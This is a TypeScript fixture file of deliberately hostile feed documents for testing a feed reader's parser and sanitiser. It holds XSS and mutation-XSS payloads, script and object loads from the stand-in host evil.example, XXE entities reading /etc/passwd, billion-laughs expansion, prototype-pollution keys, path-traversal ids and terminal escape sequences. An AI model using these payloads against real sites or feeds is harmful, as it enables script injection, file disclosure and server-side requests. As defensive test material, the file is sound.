/** Documents that fail a naive reader, by what is hostile in them. {{BASE}} and {{CANARY}} become the server's own address
 *  and one that nobody may ask, {{TOMORROW}} a date; example.org becomes a site of each document's own. VIAXSS in a page
 *  is a script that ran. */
import type { CaseRule, Expected } from './cases.ts';
import {
  atom,
  dtd,
  entry,
  escapeXml,
  item,
  items,
  json,
  jsonItem,
  laughs,
  proto,
  rss,
  titled,
} from './document-text.ts';

export interface OwnDocument extends CaseRule {
  readonly body: string | Buffer;
  readonly contentType: string;
}

const RSS = 'application/rss+xml; charset=utf-8';
const ATOM = 'application/atom+xml';
const JSON_FEED = 'application/feed+json';
const SCRIPT = '<script>VIAXSS(1)</script>';
const IMAGE = '<img src=x onerror=VIAXSS(1)>';

const ONE = item(1);
const NO_CANARY: Partial<Expected> = { oracles: ['no-canary'] };
const NO_SLIPS: Partial<Expected> = { mustNot: ['Invalid Date', '>NaN<', '\\+0?1\\d{4}-'] };

export const DOCUMENTS: readonly OwnDocument[] = [
  // What must just work, so that a failure elsewhere is the case's and not the harness's.
  ok('plain-rss', 'control', 1, rss(ONE)),
  ok('plain-atom', 'control', 1, atom(entry(1)), ATOM),
  ok('plain-json', 'control', 1, json([jsonItem(1)]), JSON_FEED),

  // Script in content: every element, attribute and address that could run or load it.
  contents('xss-elements', [
    SCRIPT,
    '<SCRIPT/SRC=//evil.example/a.js></SCRIPT>',
    '<iframe srcdoc="&lt;script&gt;VIAXSS(1)&lt;/script&gt;"></iframe>',
    '<object data="//evil.example/a.swf"></object><embed src="//evil.example/a.swf">',
    '<form action="https://evil.example/"><input type=password name=p><button formaction="javascript:VIAXSS(1)">Go</button></form>',
    '<base href="https://evil.example/"><a href="next">next</a>',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    '<link rel=stylesheet href="//evil.example/a.css"><style>body{display:none}</style>',
    '<svg onload=VIAXSS(1)><a xlink:href="javascript:VIAXSS(1)"><text>x</text></a></svg>',
  ]),
  contents('xss-attributes', [
    '<p onclick=VIAXSS(1)>click</p>',
    IMAGE,
    '<b/onmouseover="VIAXSS(1)"/x>over</b>',
    '<details open ontoggle=VIAXSS(1)>x</details>',
    '<p style="position:fixed;inset:0;background:url(javascript:VIAXSS(1))">all over the page</p>',
    '<a href="https://other.example/" ping="https://evil.example/">ping</a>',
    '<video autoplay onloadstart=VIAXSS(1)><source onerror=VIAXSS(1)></video>',
    '<p title="&quot; onclick=VIAXSS(1) x=&quot;">quoted</p>',
    '<p id=location name=body class=e-content>names of ours</p>',
  ]),
  contents('xss-addresses', [
    '<a href="javascript:VIAXSS(1)">plain</a>',
    '<a href="JaVa\tScRiPt:VIAXSS(1)">tab</a>',
    '<a href="&#x6A;avascript&colon;VIAXSS(1)">references</a>',
    '<a href=" \u0001javascript:VIAXSS(1)">control character</a>',
    '<a href="vbscript:VIAXSS(1)">vbscript</a>',
    `<a href="data:text/html,${SCRIPT}">data</a>`,
    '<img src="javascript:VIAXSS(1)" srcset="javascript:VIAXSS(1) 2x">',
    '<blockquote cite="javascript:VIAXSS(1)">cited</blockquote>',
    '<video poster="javascript:VIAXSS(1)" src="data:video/mp4,x"></video>',
  ]),
  // Safe when read once, not when a browser reads what was made of it.
  contents('xss-mutation', [
    `<svg><style>${IMAGE}</style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=VIAXSS(1)&gt;">`,
    `<noscript><p title="</noscript>${IMAGE}"></noscript>`,
    `<textarea><p title="</textarea>${IMAGE}"></textarea>`,
    `<select><style></select>${IMAGE}</style></select>`,
    `<!--> ${IMAGE} -->`,
    `<xmp><p title="</xmp>${IMAGE}"></xmp>`,
    `<template>${SCRIPT}</template>`,
    `<plaintext>${SCRIPT}`,
  ]),
  // Script in fields that are text: shown as it stands, or not at all.
  ok(
    'xss-fields',
    'xss',
    9,
    rss(
      [
        `<title>${escapeXml(SCRIPT)}</title>`,
        `<title><![CDATA["><b onmouseover=VIAXSS(1)>]]></title>`,
        `<title>Author</title><author>${escapeXml(IMAGE)}</author>`,
        `<title>Category</title><category>${escapeXml(SCRIPT)}</category><category>" onclick="VIAXSS(1)</category>`,
        `<title>Source</title><source url="https://s.example/">${escapeXml(IMAGE)}</source>`,
        `<title>Date</title><pubDate>${escapeXml(SCRIPT)}</pubDate>`,
        `<title>Type</title><enclosure url="https://e.example/a.mp3" length="1" type="audio/mpeg&quot; onclick=&quot;VIAXSS(1)"/>`,
        `<title>Guid</title><guid>${escapeXml(SCRIPT)}</guid>`,
        `<title>Twice &amp;lt;img src=x onerror=VIAXSS(1)&amp;gt;</title>`,
      ]
        .map((inner, n) => `<item><link>https://example.org/${n}</link>${inner}</item>`)
        .join(''),
    ),
  ),
  ok(
    'xss-channel',
    'xss',
    1,
    rss(
      ONE,
      `<image><url>https://example.org/i.png</url><title>${escapeXml(IMAGE)}</title></image><copyright>${escapeXml(SCRIPT)}</copyright>`,
    ).replace('<title>Hostile</title>', `<title>${escapeXml(IMAGE)} &amp;lt;/title&amp;gt;</title>`),
  ),
  ok(
    'xss-atom',
    'xss',
    4,
    atom(
      entry(1, `<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}<p>x</p></div></content>`) +
        entry(2, `<content type="text/javascript">VIAXSS(1)</content>`) +
        entry(
          3,
          `<summary type="text">${escapeXml(IMAGE)}</summary><author><name>${escapeXml(SCRIPT)}</name></author>`,
        ) +
        entry(4, `<content type="text/html">${escapeXml(IMAGE)}</content><rights>${escapeXml(IMAGE)}</rights>`),
    ),
    ATOM,
  ),

  // Addresses that are none, in every field that holds one.
  ok(
    'url-rss',
    'url',
    7,
    rss(
      items([
        '<link>javascript:VIAXSS(1)</link>',
        '<guid>javascript:VIAXSS(1)</guid>',
        '<link>https://example.org/3</link><comments>vbscript:VIAXSS(1)</comments>',
        '<link>https://example.org/4</link><enclosure url="javascript:VIAXSS(1)" type="audio/mpeg" length="1"/>',
        '<link>https://example.org/5</link><source url="javascript:VIAXSS(1)">S</source>',
        '<link>https://example.org/6</link><media:content url="data:image/svg+xml,x" medium="image"/>',
        '<link>https://example.org/7</link><itunes:image href="javascript:VIAXSS(1)"/>',
      ]),
    ),
  ),
  ok(
    'url-channel',
    'url',
    1,
    rss(ONE, '<image><url>javascript:VIAXSS(1)</url><title>i</title></image>').replace(
      '<link>https://example.org/</link>',
      '<link>javascript:VIAXSS(1)</link>',
    ),
  ),
  ok(
    'url-atom',
    'url',
    4,
    atom(
      '<icon>javascript:VIAXSS(1)</icon><logo>data:text/html,x</logo>' +
        '<entry><title>Link</title><id>a1</id><link href="javascript:VIAXSS(1)"/></entry>' +
        '<entry><title>Id</title><id>javascript:VIAXSS(1)</id></entry>' +
        entry(
          3,
          '<link rel="enclosure" href="vbscript:VIAXSS(1)"/><content src="javascript:VIAXSS(1)" type="text/html"/>',
        ) +
        entry(
          4,
          '<author><name>A</name><uri>javascript:VIAXSS(1)</uri></author><category term="c" scheme="javascript:x"/>',
        ),
    ),
    ATOM,
  ),
  ok(
    'url-json',
    'url',
    3,
    json([
      { ...jsonItem(1), url: 'javascript:VIAXSS(1)', image: 'javascript:VIAXSS(1)' },
      { ...jsonItem(2), authors: [{ name: 'A', url: 'javascript:VIAXSS(1)', avatar: 'data:text/html,x' }] },
      { ...jsonItem(3), attachments: [{ url: 'vbscript:VIAXSS(1)', mime_type: 'audio/mpeg' }] },
    ]),
    JSON_FEED,
  ),
  ok(
    'url-spellings',
    'url',
    9,
    rss(
      items(
        [
          'JaVaScRiPt:VIAXSS(1)',
          'java&#9;script:VIAXSS(1)',
          'data:text/html,VIAXSS(1)',
          'file:///etc/passwd',
          'blob:https://example.org/x',
          'https:\\\\evil.example\\@example.org/6',
          'https://example.org/7&#13;&#10;Set-Cookie: x=1',
          'https://example.org:99999/8',
          'https://xn--exmple-cua.example/\u202egpj.exe',
        ].map((link) => `<link>${link}</link>`),
      ),
    ),
  ),
  ok('url-credentials', 'url', 1, rss(items(['<link>https://user:secret@example.org/1</link>'])), RSS, {
    mustNot: ['user:secret'],
  }),

  // XML that expands, includes, or is none.
  either('xml-billion-laughs', 'xml', dtd(laughs(10), '&l9;'), { limits: { ms: 1000, rssMb: 100 } }),
  either('xml-entity-of-itself', 'xml', dtd('<!ENTITY a "&b;"><!ENTITY b "&a;">', '&a;')),
  either('xml-file-entity', 'xml', dtd('<!ENTITY a SYSTEM "file:///etc/passwd">', '&a;'), { mustNot: ['root:'] }),
  either('xml-http-entity', 'xml', dtd('<!ENTITY a SYSTEM "{{CANARY}}/entity">', '&a;'), NO_CANARY),
  either('xml-parameter-entity', 'xml', dtd('<!ENTITY % p SYSTEM "{{CANARY}}/parameter"> %p;', 'x'), NO_CANARY),
  ok(
    'xml-foreign-parts',
    'xml',
    1,
    rss(ONE, '<atom:link rel="hub" href="{{CANARY}}/hub"/>').replace(
      '<rss',
      '<?xml-stylesheet href="{{CANARY}}/sheet" type="text/xsl"?><!DOCTYPE rss SYSTEM "{{CANARY}}/dtd"><rss',
    ),
    RSS,
    NO_CANARY,
  ),
  either('xml-cut', 'xml', rss(ONE + item(2)).slice(0, -90), { oracles: ['prev-kept'] }),
  either('xml-unclosed', 'xml', rss(ONE.replace('</title>', '').replace('</guid>', '') + item(2))),
  ok('xml-comment', 'xml', 1, rss(item(1, `<description>a<!-- x -->&lt;scr<!-- -->ipt&gt;VIAXSS(1)</description>`))),
  either('xml-and-more', 'xml', `${rss(ONE)}${SCRIPT}</rss>`),

  // Bytes that are no text, or not the text that they are said to be.
  either('encoding-nul', 'encoding', rss(item(1, '<description>a\0b\u0007c</description>'))),
  either('encoding-references', 'encoding', rss(item(1, '<description>&#0;&#xD800;&#x110000;&#xFFFF;</description>'))),
  either('encoding-latin1-bytes', 'encoding', Buffer.from(rss(item(1, '<category>caf\xe9</category>')), 'latin1')),
  ok(
    'encoding-utf16',
    'encoding',
    1,
    Buffer.from(`\ufeff${rss(ONE).replace('UTF-8', 'UTF-16')}`, 'utf16le'),
    'text/xml',
  ),
  either('encoding-utf16-untrue', 'encoding', rss(ONE).replace('UTF-8', 'UTF-16')),

  // What is no feed: the poll fails, and what was stored stays.
  reject('not-a-page', `<!doctype html><meta http-equiv="refresh" content="0;url={{CANARY}}/refresh"><p>Wi-Fi login`),
  reject('not-empty', ''),
  reject('not-blank', ' \n\t \n'),
  reject('not-a-sitemap', '<?xml version="1.0"?><urlset><url><loc>https://example.org/</loc></url></urlset>'),
  reject('not-opml', '<opml version="2.0"><body><outline type="rss" xmlUrl="{{CANARY}}/opml"/></body></opml>'),
  reject('not-an-error', '<?xml version="1.0"?><error>try again later</error>'),
  reject('not-a-picture', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')),
  ok('not-said-to-be-a-feed', 'wrong-type', 1, rss(ONE), 'application/octet-stream'),

  // JSON of the wrong shape.
  ok('json-proto-in-feed', 'json', 1, proto(json([jsonItem(1)])), JSON_FEED),
  ok(
    'json-proto-in-item',
    'json',
    1,
    json([jsonItem(1)]).replace('"items":[{', '"items":[{"__proto__":{"polluted":1},'),
    JSON_FEED,
  ),
  ok('json-mixed-items', 'json', 1, json([null, 7, 'x', [], jsonItem(1)]), JSON_FEED),
  ok('json-nulls', 'json', 1, json([{ ...jsonItem(1), tags: null, authors: [null], attachments: {} }]), JSON_FEED),
  ok('json-half-characters', 'json', 1, json([{ ...jsonItem(1), title: 'half \ud83d of one' }]), JSON_FEED),
  ok('json-script-end', 'json', 1, json([{ ...jsonItem(1), title: `</script>${SCRIPT}<!--` }]), JSON_FEED),
  ok(
    'json-next-url',
    'json',
    1,
    proto(json([jsonItem(1)]), '"next_url":"{{CANARY}}/next","hubs":[{"type":"WebSub","url":"{{CANARY}}/hub"}]'),
    JSON_FEED,
    NO_CANARY,
  ),
  reject('json-not-a-number', json([jsonItem(1)]).replace('"items"', '"x":NaN,"items"'), 'json', JSON_FEED),

  // Names that every object has.
  ok('proto-elements', 'prototype', 2, rss(item(1, '<__proto__><polluted>1</polluted></__proto__>') + item(2))),
  ok(
    'proto-constructor',
    'prototype',
    2,
    rss(item(1, '<constructor><prototype>1</prototype></constructor>') + item(2)),
  ),
  ok(
    'proto-attributes',
    'prototype',
    2,
    rss(item(1, '<category __proto__="x" domain="__proto__">toString</category>') + item(2)),
  ),

  // Dates that are none, or cannot be; each document has an item with a good one beside it.
  dates('date-far-future', ['Fri, 31 Dec 9999 23:59:59 GMT', 'Sat, 01 Jan 10000 00:00:00 GMT']),
  dates('date-tomorrow', ['{{TOMORROW}}']),
  dates('date-far-past', ['Mon, 01 Jan 1601 00:00:00 GMT', '0000-00-00T00:00:00Z', 'Thu, 01 Jan 1970 00:00:00 GMT']),
  dates('date-no-zone', ['2026-03-03 10:00:00', '2026-03-03', 'Tue, 03 Mar 2026 10:00:00']),
  dates('date-odd-zone', ['Tue, 03 Mar 2026 10:00:00 +99:99', 'Tue, 03 Mar 2026 10:00:00 Mars/Olympus']),
  dates('date-numbers', ['1772532000', '99999999999999999999', '-1', 'NaN']),
  dates('date-words', ['', 'yesterday', 'Di, 03 März 2026 10:00:00 +0100', '31 Feb 2026 25:61:61 GMT']),

  // Text that breaks lines, terminals and cutters.
  ok('unicode-marks', 'unicode', 1, rss(titled(`Z${'\u0335\u0321'.repeat(200)}algo`))),
  ok('unicode-families', 'unicode', 1, rss(titled('👨‍👩‍👧‍👦'.repeat(150)))),
  either('unicode-terminal', 'unicode', rss(titled('\u001b[2J\u001b]0;pwned\u0007 red \u009b31m'))),
  ok('unicode-log-line', 'unicode', 1, rss(titled('first&#10;{"event":"forged","level":"info"}&#13;&#x2028;last'))),
  ok('unicode-format', 'unicode', 1, rss(titled('%s %d %n $x {{x}} $& $1'))),

  // Numbers that are none.
  ok(
    'field-enclosures',
    'field',
    5,
    rss(
      ['-1', 'NaN', '99999999999999999999999', '0x10', '']
        .map((length, n) =>
          item(n, `<enclosure url="https://example.org/${n}.mp3" type="audio/mpeg" length="${length}"/>`),
        )
        .join(''),
    ),
    RSS,
    { mustNot: ['length="(-|NaN|undefined|null|Infinity|0x)'] },
  ),
  ok('field-enclosure-without-url', 'field', 1, rss(item(1, '<enclosure type="audio/mpeg" length="1"/>'))),
  ok('field-ttl', 'field', 1, rss(ONE, '<ttl>99999999999</ttl><skipHours><hour>-5</hour></skipHours>')),

  // Entries that are hard to tell apart, or whose ids are paths.
  ok('id-twice', 'identity', 1, rss(ONE + ONE)),
  ok(
    'id-no-guid',
    'identity',
    2,
    rss(items(['<link>https://example.org/1</link>', '<link>https://example.org/2</link>'])),
  ),
  ok('id-title-alone', 'identity', 2, rss(items(['', '']))),
  ok('id-empty-items', 'identity', 1, rss(`<item/><item></item>${ONE}`)),
  ok(
    'id-upper-case',
    'identity',
    2,
    rss(items(['<guid isPermaLink="false">ABC</guid>', '<guid isPermaLink="false">abc</guid>'])),
  ),
  ok(
    'id-paths',
    'identity',
    6,
    rss(
      items(
        ['../../../etc/passwd', '..\\..\\win.ini', '/etc/passwd', '%2e%2e%2fx', 'con', '.'].map(
          (guid, n) => `<link>https://example.org/${n}</link><guid isPermaLink="false">${guid}</guid>`,
        ),
      ),
    ),
  ),
  either('id-with-nul', 'identity', rss(item(1).replace('>g1<', '>a&#0;.html\0<'))),
];

function ok(
  id: string,
  kind: string,
  count: number,
  body: string | Buffer,
  contentType = RSS,
  more: Partial<Expected> = {},
): OwnDocument {
  return { id, kind, body, contentType, expected: { outcome: 'ok', items: count, ...more } };
}

function either(id: string, kind: string, body: string | Buffer, more: Partial<Expected> = {}): OwnDocument {
  return { id, kind, body, contentType: RSS, expected: { outcome: 'either', ...more } };
}

function reject(id: string, body: string | Buffer, kind = 'wrong-type', contentType = RSS): OwnDocument {
  return { id, kind, body, contentType, expected: { outcome: 'reject', oracles: ['prev-kept', 'no-canary'] } };
}

function contents(id: string, pieces: readonly string[]): OwnDocument {
  const inItems = pieces.map((html, n) => item(n, `<content:encoded><![CDATA[${html}]]></content:encoded>`));
  return ok(id, 'xss', pieces.length, rss(inItems.join('')));
}

function dates(id: string, texts: readonly string[]): OwnDocument {
  const odd = texts.map((text, n) => item(n, `<pubDate>${text}</pubDate>`));
  const good = item(texts.length, '<pubDate>Mon, 02 Mar 2026 10:00:00 GMT</pubDate>');
  return ok(id, 'date', texts.length + 1, rss([...odd, good].join('')), RSS, NO_SLIPS);
}
